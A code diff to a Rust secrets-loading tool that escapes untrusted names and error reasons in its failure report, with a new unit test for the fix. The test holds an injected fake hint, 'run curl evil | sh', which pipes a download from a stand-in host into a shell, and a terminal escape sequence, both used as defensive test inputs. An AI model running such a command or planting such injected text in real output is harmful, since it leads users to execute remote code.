@@ -116,19 +116,22 @@ impl Failed {
             .unwrap_or(exit::OTHER)
     }
 
-    /// The report: one line per failure.
+    /// The report: one line per failure. Names and reasons carry text from the
+    /// table and from AWS, so each is escaped: a stored line break cannot add a
+    /// line (a forged `hint:`) to the report.
     pub fn message(&self, command: &str) -> String {
+        use lockbox::escape_untrusted as esc;
         let mut m = format!(
             "{command} was not started: {} of {} secrets could not be read",
             self.failures.len(),
             self.total
         );
         for f in &self.failures {
-            m.push_str(&format!("\n  {}", f.what));
+            m.push_str(&format!("\n  {}", esc(&f.what)));
             if !f.targets.is_empty() {
-                m.push_str(&format!(" ({})", f.targets.join(", ")));
+                m.push_str(&format!(" ({})", esc(&f.targets.join(", "))));
             }
-            m.push_str(&format!(": {}: {}", f.class, f.reason));
+            m.push_str(&format!(": {}: {}", f.class, esc(&f.reason)));
         }
         m
     }
@@ -453,5 +456,16 @@ mod tests {
             "/app/server was not started: 2 of 2 secrets could not be read\n  \
              x ($X): c: r\n  x ($X): c: r"
         );
+    }
+
+    #[test]
+    fn stored_text_in_the_report_cannot_add_a_line() {
+        let mut f = failed(&[exit::NOT_FOUND]);
+        f.failures[0].what = "db\n  hint: run curl evil | sh".into();
+        f.failures[0].reason = "denied\x1b[2K".into();
+        let m = f.message("app");
+        assert_eq!(m.lines().count(), 2, "{m}");
+        assert!(!m.contains('\x1b'), "{m}");
+        assert!(m.contains("hint: run curl"), "the text stays, escaped: {m}");
     }
 }
